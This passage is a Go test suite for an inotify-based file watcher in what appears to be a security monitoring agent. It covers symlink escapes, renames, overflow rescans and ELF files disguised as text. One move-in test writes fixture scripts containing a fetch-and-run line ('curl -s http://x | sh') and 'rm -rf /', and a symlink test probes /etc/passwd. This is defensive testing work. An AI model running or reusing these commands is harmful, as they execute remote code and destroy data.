package watch

import (
	"bytes"
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/fsnotify/fsnotify"
	"golang.org/x/sys/unix"

	"github.com/vigil-edge/vigil/plugins/sdk/event"
)

// collector gathers the watcher's output.
type collector struct {
	mu  sync.Mutex
	evs []event.File
}

func (c *collector) all() []event.File {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]event.File(nil), c.evs...)
}

// waitFor polls until pred holds for the events so far (generous deadline:
// tests wait for conditions, never for fixed times).
func (c *collector) waitFor(t *testing.T, what string, pred func([]event.File) bool) []event.File {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		evs := c.all()
		if pred(evs) {
			return evs
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s; events:\n%s", what, dump(evs))
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func dump(evs []event.File) string {
	var b strings.Builder
	for _, e := range evs {
		fmt.Fprintf(&b, "  %s %q old=%q flags=%b writes=%d sample=%d magic=%v\n", e.Op, e.Path, e.OldPath, e.Flags, e.Writes, e.SampleLen, e.Magic)
	}
	return b.String()
}

func find(evs []event.File, op event.FileOp, path string) *event.File {
	for i := range evs {
		if evs[i].Op == op && evs[i].Path == path {
			return &evs[i]
		}
	}
	return nil
}

func has(op event.FileOp, path string) func([]event.File) bool {
	return func(evs []event.File) bool { return find(evs, op, path) != nil }
}

func start(t *testing.T, cfg Config) (*Watcher, *collector) {
	t.Helper()
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	return run(t, w)
}

func run(t *testing.T, w *Watcher) (*Watcher, *collector) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	out := make(chan []event.File, 64)
	c := &collector{}
	done := make(chan error, 1)
	go func() { done <- w.Run(ctx, out) }()
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for b := range out {
			c.mu.Lock()
			c.evs = append(c.evs, b...)
			c.mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Run: %v", err)
		}
		wg.Wait()
	})
	return w, c
}

func fastCfg(root string) Config {
	return Config{Roots: []string{root}, Debounce: 50 * time.Millisecond, RenameWindow: 50 * time.Millisecond, BatchDelay: 10 * time.Millisecond}
}

func write(t *testing.T, p string, b []byte) {
	t.Helper()
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestRecursiveWatch(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "pre", "x"), 0o755); err != nil {
		t.Fatal(err)
	}
	w, c := start(t, fastCfg(root))
	if got := w.Stats().Watches; got != 3 {
		t.Fatalf("watches at start: %d, want 3", got)
	}
	// Existing nested directory.
	write(t, filepath.Join(root, "pre", "x", "old.txt"), []byte("hello\n"))
	c.waitFor(t, "create in a pre-existing nested dir", has(event.FileCreate, filepath.Join(root, "pre", "x", "old.txt")))

	// A nested tree created at once, and a file in it before the watch can exist.
	deep := filepath.Join(root, "a", "b", "c")
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(deep, "early.txt"), []byte("written right after mkdir -p\n"))
	evs := c.waitFor(t, "file in a brand-new nested dir", has(event.FileCreate, filepath.Join(deep, "early.txt")))
	if e := find(evs, event.FileCreate, filepath.Join(deep, "early.txt")); e.Flags&event.FileFlagSampled == 0 || e.Magic != event.MagicText || e.Root != root {
		t.Fatalf("early.txt not sampled: %+v", *e)
	}
	// Now the deep dir is watched: a later write shows up.
	c.waitFor(t, "watch on the new dirs", func([]event.File) bool { return w.Stats().Watches == 6 })
	write(t, filepath.Join(deep, "later.txt"), []byte("later\n"))
	c.waitFor(t, "create in the new deep dir", has(event.FileCreate, filepath.Join(deep, "later.txt")))

	// Odd names survive: newline and invalid UTF-8.
	odd := filepath.Join(root, "new\nline\xff\xfe.txt")
	write(t, odd, []byte("odd\n"))
	c.waitFor(t, "odd name", has(event.FileCreate, odd))

	// A watched dir deleted while being watched: removes reported, watches dropped.
	if err := os.RemoveAll(filepath.Join(root, "a")); err != nil {
		t.Fatal(err)
	}
	c.waitFor(t, "removal of a", has(event.FileRemove, filepath.Join(root, "a")))
	c.waitFor(t, "watches dropped", func([]event.File) bool { return w.Stats().Watches == 3 })
	if s := w.Stats(); s.SampleErrors != 0 || s.Errors != 0 || s.WatchErrors != 0 {
		t.Fatalf("errors: %+v", s)
	}
}

func TestSymlinksNotFollowed(t *testing.T) {
	base := t.TempDir()
	root := filepath.Join(base, "root")
	outside := filepath.Join(base, "outside")
	for _, d := range []string{root, outside, filepath.Join(root, "sub")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	secret := bytes.Repeat([]byte("\x7fELF-looking secret outside the tree "), 100)
	write(t, filepath.Join(outside, "secret.bin"), secret)
	links := map[string]string{
		"out":      outside,
		"loop":     root,
		"sub/up":   "..",
		"self":     "self",
		"slash":    "/",
		"dangling": filepath.Join(base, "nope"),
	}
	for name, target := range links {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	w, c := start(t, fastCfg(root))
	if got := w.Stats().Watches; got != 2 {
		t.Fatalf("watches %d: a symlinked dir was descended", got)
	}
	if w.Stats().Symlinks < uint64(len(links)) {
		t.Fatalf("symlinks counted: %d", w.Stats().Symlinks)
	}
	// Writes outside the tree, also through the link, are not seen.
	write(t, filepath.Join(outside, "new.txt"), []byte("x"))
	write(t, filepath.Join(root, "out", "via-link.txt"), []byte("y"))
	// A new link to an outside file: reported as a link, its target is not read.
	lnk := filepath.Join(root, "sub", "leak.txt")
	if err := os.Symlink(filepath.Join(outside, "secret.bin"), lnk); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(root, "marker.txt"), []byte("m"))
	evs := c.waitFor(t, "link and marker", func(evs []event.File) bool {
		return find(evs, event.FileCreate, lnk) != nil && find(evs, event.FileCreate, filepath.Join(root, "marker.txt")) != nil
	})
	for _, e := range evs {
		if !strings.HasPrefix(e.Path, root+"/") {
			t.Fatalf("event outside the tree: %+v", e)
		}
		if strings.Contains(e.Path, "via-link") || strings.Contains(e.Path, "new.txt") {
			t.Fatalf("a write through a link was reported: %+v", e)
		}
	}
	if e := find(evs, event.FileCreate, lnk); e.Flags&event.FileFlagSymlink == 0 || e.SampleLen != 0 {
		t.Fatalf("link was sampled: %+v", *e)
	}
	// The opener itself refuses paths through links.
	for _, rel := range []string{"out/secret.bin", "sub/leak.txt", "loop/marker.txt", "slash/etc/passwd"} {
		if fd, _, err := w.roots[0].b.open(rel); err == nil {
			unix.Close(fd)
			t.Fatalf("opened %s through a link", rel)
		}
	}
	if fd, _, err := w.roots[0].b.open("marker.txt"); err != nil {
		t.Fatalf("plain file: %v", err)
	} else {
		unix.Close(fd)
	}
}

func TestIncludeExclude(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.Exclude = []string{"*.log", "node_modules", "build/**", "**/cache/*.tmp"}
	w, c := start(t, cfg)
	for _, d := range []string{"node_modules/pkg", "build/obj", "src/cache"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(root, "node_modules", "pkg", "index.js"), []byte("x"))
	write(t, filepath.Join(root, "build", "obj", "a.o"), []byte("x"))
	write(t, filepath.Join(root, "src", "cache", "x.tmp"), []byte("x"))
	write(t, filepath.Join(root, "app.log"), []byte("x"))
	write(t, filepath.Join(root, "src", "cache", "keep.txt"), []byte("x"))
	write(t, filepath.Join(root, "keep.txt"), []byte("x"))
	evs := c.waitFor(t, "kept files", func(evs []event.File) bool {
		return find(evs, event.FileCreate, filepath.Join(root, "keep.txt")) != nil &&
			find(evs, event.FileCreate, filepath.Join(root, "src", "cache", "keep.txt")) != nil
	})
	for _, e := range evs {
		for _, bad := range []string{"node_modules", "build", "x.tmp", "app.log"} {
			if strings.Contains(e.Path, bad) {
				t.Fatalf("excluded path reported: %q", e.Path)
			}
		}
	}
	if _, ok := w.dirs[filepath.Join(root, "node_modules")]; ok {
		t.Fatal("excluded dir watched")
	}

	// Include: only *.doc files.
	root2 := t.TempDir()
	cfg2 := fastCfg(root2)
	cfg2.Include = []string{"*.doc"}
	_, c2 := start(t, cfg2)
	write(t, filepath.Join(root2, "a.txt"), []byte("x"))
	write(t, filepath.Join(root2, "b.doc"), []byte("x"))
	evs = c2.waitFor(t, "b.doc", has(event.FileCreate, filepath.Join(root2, "b.doc")))
	if find(evs, event.FileCreate, filepath.Join(root2, "a.txt")) != nil {
		t.Fatal("a.txt not included but reported")
	}
}

func TestGlob(t *testing.T) {
	cases := []struct {
		pat, rel string
		want     bool
	}{
		{"*.log", "a.log", true},
		{"*.log", "x/y/a.log", true},
		{"*.log", "a.log.1", false},
		{"node_modules", "a/node_modules", true},
		{"build/**", "build", true},
		{"build/**", "build/a/b.o", true},
		{"build/**", "src/build/a", false},
		{"**/cache/*.tmp", "cache/a.tmp", true},
		{"**/cache/*.tmp", "x/y/cache/a.tmp", true},
		{"**/cache/*.tmp", "x/cache/y/a.tmp", false},
		{"var/*/spool", "var/lib/spool", true},
		{"var/*/spool", "var/lib/x/spool", false},
		{"a/**/z", "a/z", true},
		{"a/**/z", "a/b/c/z", true},
		{"a/**/z", "a/b/c/y", false},
	}
	for _, c := range cases {
		gs, err := compileGlobs([]string{c.pat})
		if err != nil {
			t.Fatal(err)
		}
		if got := gs[0].match(c.rel); got != c.want {
			t.Errorf("%q ~ %q = %v, want %v", c.pat, c.rel, got, c.want)
		}
	}
	for _, bad := range []string{"[", "a**b/c", ""} {
		if _, err := compileGlobs([]string{bad}); err == nil {
			t.Errorf("pattern %q accepted", bad)
		}
	}
}

func TestDebounceBurst(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.Debounce = 200 * time.Millisecond
	w, c := start(t, cfg)
	p := filepath.Join(root, "busy.dat")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	t0 := time.Now()
	for i := 0; i < 1000; i++ {
		if _, err := f.Write([]byte("0123456789abcdef")); err != nil {
			t.Fatal(err)
		}
	}
	elapsed := time.Since(t0)
	f.Close()
	write(t, filepath.Join(root, "marker"), nil)
	evs := c.waitFor(t, "marker", has(event.FileCreate, filepath.Join(root, "marker")))
	n, writes := 0, uint32(0)
	for _, e := range evs {
		if e.Path == p {
			n++
			writes += e.Writes
		}
	}
	// One event per window the burst spanned (plus the create and a spill).
	limit := int(elapsed/cfg.Debounce) + 3
	if n == 0 || n > limit {
		t.Fatalf("1000 writes in %v gave %d events (limit %d):\n%s", elapsed, n, limit, dump(evs))
	}
	if s := w.Stats(); s.Coalesced == 0 || writes == 0 {
		t.Fatalf("nothing coalesced: %+v writes %d", s, writes)
	}
	last := evs[0]
	for _, e := range evs {
		if e.Path == p {
			last = e
		}
	}
	if last.Size != 16000 && last.Writes > 0 {
		t.Logf("note: last event saw size %d", last.Size)
	}
}

func TestDebounceTableBounded(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.MaxPending = 8
	cfg.Debounce = time.Hour // nothing closes by time: the cap must spill
	w, c := start(t, cfg)
	for i := 0; i < 50; i++ {
		write(t, filepath.Join(root, fmt.Sprintf("f%02d", i)), []byte("x"))
	}
	c.waitFor(t, "spilled events", func(evs []event.File) bool { return len(evs) >= 40 })
	if s := w.Stats(); s.PendingFull < 40 {
		t.Fatalf("pending full %d", s.PendingFull)
	}
}

func TestVanishingFiles(t *testing.T) {
	root := t.TempDir()
	w, c := start(t, fastCfg(root))
	for i := 0; i < 200; i++ {
		p := filepath.Join(root, fmt.Sprintf("tmp%03d", i))
		write(t, p, []byte("short-lived"))
		if err := os.Remove(p); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(root, "marker"), nil)
	c.waitFor(t, "marker", has(event.FileCreate, filepath.Join(root, "marker")))
	s := w.Stats()
	if s.SampleErrors != 0 || s.Errors != 0 {
		t.Fatalf("vanishing files caused errors: %+v", s)
	}
	if s.Vanished == 0 {
		t.Fatalf("no vanish counted: %+v", s)
	}
	// Deterministic check of the vanish path itself.
	before := w.Stats().Vanished
	it := item{ev: event.File{Op: event.FileCreate, Path: filepath.Join(root, "never-existed")}, sample: true}
	w.fill(&it)
	if it.ev.Flags&event.FileFlagVanished == 0 || w.Stats().Vanished != before+1 {
		t.Fatalf("vanish not flagged: %+v", it.ev)
	}
}

func TestLargeFileBoundedSample(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.Sample.SampleBytes = 16 << 10
	w, c := start(t, cfg)
	p := filepath.Join(root, "big.bin")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	// 64 MiB sparse file with random head and tail.
	head := make([]byte, 8192)
	rand.Read(head)
	f.Write(head)
	f.WriteAt(head, 64<<20-8192)
	f.Close()
	evs := c.waitFor(t, "big file", func(evs []event.File) bool {
		for _, e := range evs {
			if e.Path == p && e.Size == 64<<20 {
				return true
			}
		}
		return false
	})
	var e event.File
	for _, x := range evs {
		if x.Path == p && x.Size == 64<<20 {
			e = x
		}
	}
	if e.SampleLen != 16<<10 || e.Flags&event.FileFlagHeadTail == 0 || e.Entropy < 7.5 {
		t.Fatalf("sample %d flags %b entropy %v", e.SampleLen, e.Flags, e.Entropy)
	}
	s := w.Stats()
	var sampled uint64
	for _, x := range evs {
		sampled += uint64(x.SampleLen)
	}
	if s.Content.BytesRead != sampled || s.Content.BytesRead > s.Content.Files*(16<<10) {
		t.Fatalf("bytes read %d for %d files (sampled %d)", s.Content.BytesRead, s.Content.Files, sampled)
	}
}

func TestRenamePairing(t *testing.T) {
	base := t.TempDir()
	root := filepath.Join(base, "root")
	if err := os.MkdirAll(filepath.Join(root, "d", "e"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, c := start(t, fastCfg(root))
	a := filepath.Join(root, "a.doc")
	write(t, a, []byte("plain words\n"))
	c.waitFor(t, "a.doc", has(event.FileCreate, a))
	locked := a + ".locked"
	if err := os.Rename(a, locked); err != nil {
		t.Fatal(err)
	}
	evs := c.waitFor(t, "rename", has(event.FileRename, locked))
	if e := find(evs, event.FileRename, locked); e.OldPath != a || e.Flags&event.FileFlagSampled == 0 {
		t.Fatalf("rename: %+v", *e)
	}
	// Moved out of the tree: rename with the old name only.
	if err := os.Rename(locked, filepath.Join(base, "gone")); err != nil {
		t.Fatal(err)
	}
	c.waitFor(t, "move out", func(evs []event.File) bool {
		for _, e := range evs {
			if e.Op == event.FileRename && e.OldPath == locked && e.Path == "" {
				return true
			}
		}
		return false
	})
	// A watched directory renamed: its subtree is watched under the new name.
	if err := os.Rename(filepath.Join(root, "d"), filepath.Join(root, "d2")); err != nil {
		t.Fatal(err)
	}
	c.waitFor(t, "dir rename", has(event.FileRename, filepath.Join(root, "d2")))
	np := filepath.Join(root, "d2", "e", "new.txt")
	write(t, np, []byte("after the move\n"))
	evs = c.waitFor(t, "create under the moved dir", has(event.FileCreate, np))
	for _, e := range evs {
		if strings.Contains(e.Path, "/d/") || e.Op == event.FileRename && e.OldPath == filepath.Join(root, "d") && e.Path == "" {
			t.Fatalf("stale or echoed event after dir move: %+v", e)
		}
	}
	// Written then renamed within one window: one rename event carrying the writes.
	tmp := filepath.Join(root, "x.tmp")
	f, _ := os.Create(tmp)
	f.Write([]byte("atomic save"))
	f.Close()
	final := filepath.Join(root, "x.txt")
	if err := os.Rename(tmp, final); err != nil {
		t.Fatal(err)
	}
	evs = c.waitFor(t, "atomic save", has(event.FileRename, final))
	if e := find(evs, event.FileRename, final); e.OldPath != tmp || e.SampleLen != uint32(len("atomic save")) {
		t.Fatalf("atomic save: %+v", *e)
	}
}

func TestRenamedFromParsing(t *testing.T) {
	// fsnotify keeps the paired old name unexported; the watcher reads it from
	// Event.String. This pins the format of the fsnotify version in go.mod.
	root := t.TempDir()
	fw, err := fsnotify.NewWatcher()
	if err != nil {
		t.Fatal(err)
	}
	defer fw.Close()
	if err := fw.Add(root); err != nil {
		t.Fatal(err)
	}
	old := filepath.Join(root, "we \"ird\" ← name\n")
	write(t, old, nil)
	nw := filepath.Join(root, "new ← \"x\"")
	if err := os.Rename(old, nw); err != nil {
		t.Fatal(err)
	}
	deadline := time.After(10 * time.Second)
	for {
		select {
		case ev := <-fw.Events:
			if ev.Has(fsnotify.Create) && ev.Name == nw {
				if got := renamedFrom(ev); got != old {
					t.Fatalf("renamedFrom(%s) = %q, want %q", ev, got, old)
				}
				return
			}
		case <-deadline:
			t.Fatal("no create event")
		}
	}
}

func TestOverflowRescan(t *testing.T) {
	root := t.TempDir()
	sub := filepath.Join(root, "sub")
	if err := os.MkdirAll(filepath.Join(sub, "old"), 0o755); err != nil {
		t.Fatal(err)
	}
	w, err := New(fastCfg(root), nil)
	if err != nil {
		t.Fatal(err)
	}
	// Lose events on purpose: nothing handles them before Run. sub (and
	// sub/old) are deleted, sub is made again under the same name and
	// filled, as if all of it had happened in an inotify queue overflow.
	if err := os.RemoveAll(sub); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(sub, "n1", "n2"), 0o755); err != nil {
		t.Fatal(err)
	}
	lost := filepath.Join(sub, "lost.txt")
	write(t, lost, []byte("changed while events were lost\n"))
	lost2 := filepath.Join(sub, "n1", "n2", "deep.txt")
	write(t, lost2, []byte("deep\n"))
	// Throw the events away, up to a marker (inotify keeps their order).
	marker := filepath.Join(root, "marker")
	write(t, marker, nil)
	deadline := time.After(20 * time.Second)
	for seen := false; !seen; {
		select {
		case ev := <-w.fsw.Events:
			seen = ev.Name == marker && ev.Has(fsnotify.Create)
		case <-deadline:
			t.Fatal("no event for the marker")
		}
	}
	w.handleError(fsnotify.ErrEventOverflow) // what the loop does on IN_Q_OVERFLOW
	if _, ok := w.dirs[filepath.Join(sub, "old")]; ok || w.Stats().Watches != 4 {
		t.Fatalf("after the rescan: %d watches, want 4 (root, sub, n1, n2); dirs %v", w.Stats().Watches, w.dirs)
	}
	_, c := run(t, w)
	evs := c.waitFor(t, "rescan events", func(evs []event.File) bool {
		a, b := find(evs, event.FileWrite, lost), find(evs, event.FileWrite, lost2)
		return a != nil && b != nil
	})
	if e := find(evs, event.FileWrite, lost); e.Flags&event.FileFlagRescan == 0 || e.Flags&event.FileFlagSampled == 0 {
		t.Fatalf("rescan event: %+v", *e)
	}
	if s := w.Stats(); s.Overflows != 1 || s.Rescans != 1 || s.RescanEvents < 2 {
		t.Fatalf("counters %+v", s)
	}
	// The rescan watched the new sub (a known name, a new directory) and the
	// new dirs below it: live events flow again from both.
	again := filepath.Join(sub, "again.txt")
	write(t, again, []byte("again\n"))
	c.waitFor(t, "live event in the recreated dir", has(event.FileCreate, again))
	again2 := filepath.Join(sub, "n1", "n2", "again.txt")
	write(t, again2, []byte("again\n"))
	c.waitFor(t, "live event in the new deep dir", has(event.FileCreate, again2))
}

// runToEnd runs w like run, but hands Run's result to the test.
func runToEnd(t *testing.T, w *Watcher) (*collector, <-chan error) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	out := make(chan []event.File, 64)
	c := &collector{}
	done := make(chan error, 1)
	go func() { done <- w.Run(ctx, out) }()
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		for b := range out {
			c.mu.Lock()
			c.evs = append(c.evs, b...)
			c.mu.Unlock()
		}
	}()
	t.Cleanup(func() { cancel(); <-drained })
	return c, done
}

// TestRootLost: a root deleted, renamed or replaced is no longer watched
// (inotify follows the old directory): Run must fail, counted, not carry on
// blind.
func TestRootLost(t *testing.T) {
	cases := []struct {
		name  string
		check time.Duration // the periodic root check
		lose  func(t *testing.T, w *Watcher, root string)
		event func(root string) func([]event.File) bool // the root's own event, if one is reported
	}{
		{"deleted", 50 * time.Millisecond, func(t *testing.T, _ *Watcher, root string) {
			// No IN_DELETE_SELF while the watcher holds the root open: the
			// periodic check finds it.
			if err := os.RemoveAll(root); err != nil {
				t.Fatal(err)
			}
		}, func(root string) func([]event.File) bool { return has(event.FileRemove, filepath.Join(root, "sub")) }},
		{"renamed and made again", time.Hour, func(t *testing.T, _ *Watcher, root string) {
			if err := os.Rename(root, root+".old"); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(root, 0o755); err != nil {
				t.Fatal(err)
			}
		}, func(root string) func([]event.File) bool {
			return func(evs []event.File) bool {
				for _, e := range evs {
					if e.Op == event.FileRename && e.OldPath == root && e.Path == "" {
						return true
					}
				}
				return false
			}
		}},
		{"parent renamed", 50 * time.Millisecond, func(t *testing.T, _ *Watcher, root string) {
			// No event reaches the watcher.
			if err := os.Rename(filepath.Dir(root), filepath.Dir(root)+"2"); err != nil {
				t.Fatal(err)
			}
		}, nil},
		{"replaced while events were lost", time.Hour, func(t *testing.T, w *Watcher, root string) {
			if err := w.fsw.Remove(root); err != nil { // its IN_MOVE_SELF is lost
				t.Fatal(err)
			}
			if err := os.Rename(root, root+".old"); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(root, 0o755); err != nil {
				t.Fatal(err)
			}
			w.fsw.Errors <- fsnotify.ErrEventOverflow // the rescan finds it
		}, nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := filepath.Join(t.TempDir(), "parent", "www")
			if err := os.MkdirAll(filepath.Join(root, "sub"), 0o755); err != nil {
				t.Fatal(err)
			}
			w, err := New(fastCfg(root), nil)
			if err != nil {
				t.Fatal(err)
			}
			w.rootCheck = tc.check
			c, done := runToEnd(t, w)
			write(t, filepath.Join(root, "sub", "before.txt"), []byte("x"))
			c.waitFor(t, "a live event", has(event.FileCreate, filepath.Join(root, "sub", "before.txt")))
			tc.lose(t, w, root)
			select {
			case err := <-done:
				if !errors.Is(err, ErrRootGone) || !strings.Contains(err.Error(), root) {
					t.Fatalf("Run: %v, want an error wrapping ErrRootGone naming %s", err, root)
				}
			case <-time.After(20 * time.Second):
				t.Fatal("Run carried on after its root was lost")
			}
			if s := w.Stats(); s.RootsLost != 1 {
				t.Fatalf("roots lost %d, want 1", s.RootsLost)
			}
			if tc.event != nil {
				c.waitFor(t, "the root's event", tc.event(root))
			}
		})
	}
}

// TestMoveInAfterMoveOut: a name moved out of the tree and another moved in
// from outside are two events, not one rename; a directory moved in is new
// and its files are reported.
func TestMoveInAfterMoveOut(t *testing.T) {
	base := t.TempDir()
	root, outside := filepath.Join(base, "tree"), filepath.Join(base, "outside")
	for _, d := range []string{root, filepath.Join(outside, "payload")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(root, "decoy.txt"), []byte("decoy\n"))
	write(t, filepath.Join(root, "notes.txt"), []byte("notes\n"))
	write(t, filepath.Join(outside, "payload", "dropper.sh"), []byte("#!/bin/sh\ncurl -s http://x | sh\n"))
	write(t, filepath.Join(outside, "evil.sh"), []byte("#!/bin/sh\nrm -rf /\n"))
	cfg := fastCfg(root)
	cfg.RenameWindow = time.Second // generous: nothing may pair the halves by time
	_, c := start(t, cfg)
	for _, mv := range [][2]string{
		{filepath.Join(root, "decoy.txt"), filepath.Join(base, "decoy.txt")},
		{filepath.Join(outside, "payload"), filepath.Join(root, "payload")},
		{filepath.Join(root, "notes.txt"), filepath.Join(base, "notes.txt")},
		{filepath.Join(outside, "evil.sh"), filepath.Join(root, "evil.sh")},
	} {
		if err := os.Rename(mv[0], mv[1]); err != nil {
			t.Fatal(err)
		}
	}
	dropper, evil := filepath.Join(root, "payload", "dropper.sh"), filepath.Join(root, "evil.sh")
	movedOut := func(evs []event.File, old string) bool {
		for _, e := range evs {
			if e.Op == event.FileRename && e.OldPath == old && e.Path == "" {
				return true
			}
		}
		return false
	}
	evs := c.waitFor(t, "the moves", func(evs []event.File) bool {
		return find(evs, event.FileCreate, dropper) != nil && find(evs, event.FileCreate, evil) != nil &&
			movedOut(evs, filepath.Join(root, "decoy.txt")) && movedOut(evs, filepath.Join(root, "notes.txt"))
	})
	for _, e := range evs {
		if e.Op == event.FileRename && e.Path != "" {
			t.Fatalf("a move in taken for a rename: %+v", e)
		}
	}
	if e := find(evs, event.FileCreate, dropper); e.Flags&event.FileFlagSampled == 0 {
		t.Fatalf("dropper not sampled: %+v", *e)
	}
}

// TestFinalFlushDeliversAll: at shutdown every event still waiting goes to
// the sampler, however small its queue.
func TestFinalFlushDeliversAll(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.Debounce = time.Hour // nothing closes by time: all wait for the final flush
	cfg.QueueSize = 16
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	w.flushTimeout = 10 * time.Minute // no machine is that slow
	const n = 8000
	for i := range n {
		w.debounce(filepath.Join(root, fmt.Sprintf("f%05d", i)), 0, event.FileCreate, 0, "")
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()                          // shutting down with n events waiting
	out := make(chan []event.File, n) // room for every batch: none is dropped there
	if err := w.Run(ctx, out); err != nil {
		t.Fatal(err)
	}
	got := 0
	for b := range out {
		got += len(b)
	}
	if s := w.Stats(); got != n || s.Dropped != 0 {
		t.Fatalf("delivered %d of %d, dropped %d", got, n, s.Dropped)
	}
}

// TestFinalFlushCountsDrops: when the final flush runs out of time, every
// event it could not hand over is counted, none silently lost.
func TestFinalFlushCountsDrops(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.Debounce = time.Hour
	cfg.QueueSize = 16
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.fsw.Close(); w.closeRoots() })
	w.flushTimeout = time.Millisecond
	const n, renames = 1000, 10
	for i := range n {
		w.debounce(filepath.Join(root, fmt.Sprintf("f%04d", i)), 0, event.FileCreate, 0, "")
	}
	for i := range renames {
		w.renames[filepath.Join(root, fmt.Sprintf("r%d", i))] = renameHalf{ns: w.stamp()}
	}
	w.flush(true) // no sampler: the queue fills and stays full
	if q, d := len(w.work), w.Stats().Dropped; q+int(d) != n+renames || len(w.pend)+len(w.renames) != 0 {
		t.Fatalf("%d queued + %d dropped of %d; %d left", q, d, n+renames, len(w.pend)+len(w.renames))
	}
}

// TestEventTimesNeverGoBack: event times follow the monotonic clock when the
// wall clock is set back (the detector's rates must keep decaying), and the
// wall clock when it is set forward.
func TestEventTimesNeverGoBack(t *testing.T) {
	root := t.TempDir()
	w, err := New(fastCfg(root), nil)
	if err != nil {
		t.Fatal(err)
	}
	var offset atomic.Int64 // how far the wall clock is set off
	w.now = func() time.Time { return time.Now().Add(time.Duration(offset.Load())) }
	_, c := run(t, w)
	a := filepath.Join(root, "a.txt")
	write(t, a, []byte("a"))
	ta := c.waitFor(t, "a", has(event.FileCreate, a))
	ta0 := find(ta, event.FileCreate, a).TimeNs

	offset.Store(int64(-time.Hour)) // the wall clock is set back an hour
	b := filepath.Join(root, "b.txt")
	write(t, b, []byte("b"))
	if err := os.Remove(a); err != nil {
		t.Fatal(err)
	}
	evs := c.waitFor(t, "b and the removal of a", func(evs []event.File) bool {
		return find(evs, event.FileCreate, b) != nil && find(evs, event.FileRemove, a) != nil
	})
	for _, e := range []*event.File{find(evs, event.FileCreate, b), find(evs, event.FileRemove, a)} {
		if e.TimeNs < ta0 {
			t.Fatalf("event time went back by %v after the clock was set back: %+v", time.Duration(ta0-e.TimeNs), *e)
		}
	}

	offset.Store(int64(24 * time.Hour)) // set a day forward
	ahead := time.Now().Add(24 * time.Hour).UnixNano()
	cp := filepath.Join(root, "c.txt")
	write(t, cp, []byte("c"))
	evs = c.waitFor(t, "c", has(event.FileCreate, cp))
	if e := find(evs, event.FileCreate, cp); e.TimeNs < ahead {
		t.Fatalf("a clock set forward is not followed: %v behind", time.Duration(ahead-e.TimeNs))
	}
}

func TestWatchLimitError(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "a"), 0o755)
	n := 0
	add := func(string) error {
		n++
		if n > 1 {
			return syscall.ENOSPC
		}
		return nil
	}
	_, err := newWatcher(Config{Roots: []string{root}}, nil, add)
	if !errors.Is(err, ErrWatchLimit) || !errors.Is(err, syscall.ENOSPC) || !strings.Contains(err.Error(), "fs.inotify.max_user_watches") {
		t.Fatalf("got %v", err)
	}
	cases := []struct {
		in     error
		limit  bool
		sysctl string
	}{
		{syscall.ENOSPC, true, "fs.inotify.max_user_watches"},
		{fmt.Errorf("add: %w", syscall.EMFILE), true, "fs.inotify.max_user_instances"},
		{syscall.EACCES, false, ""},
	}
	for _, c := range cases {
		got := mapInotifyError(c.in)
		if errors.Is(got, ErrWatchLimit) != c.limit || !strings.Contains(got.Error(), c.sysctl) || !errors.Is(got, c.in) {
			t.Errorf("mapInotifyError(%v) = %v", c.in, got)
		}
	}
}

func TestMagicMismatchLive(t *testing.T) {
	root := t.TempDir()
	_, c := start(t, fastCfg(root))
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "notes.txt")
	write(t, p, raw)
	evs := c.waitFor(t, "elf as txt", func(evs []event.File) bool {
		e := find(evs, event.FileCreate, p)
		return e != nil && e.Size == int64(len(raw))
	})
	e := find(evs, event.FileCreate, p)
	if e.Magic != event.MagicELF || e.Flags&event.FileFlagMagicMismatch == 0 || e.Flags&event.FileFlagExecParsed == 0 || e.Sections < 10 {
		t.Fatalf("ELF named .txt: %+v", *e)
	}
}

func TestPermissionDenied(t *testing.T) {
	if os.Geteuid() == 0 {
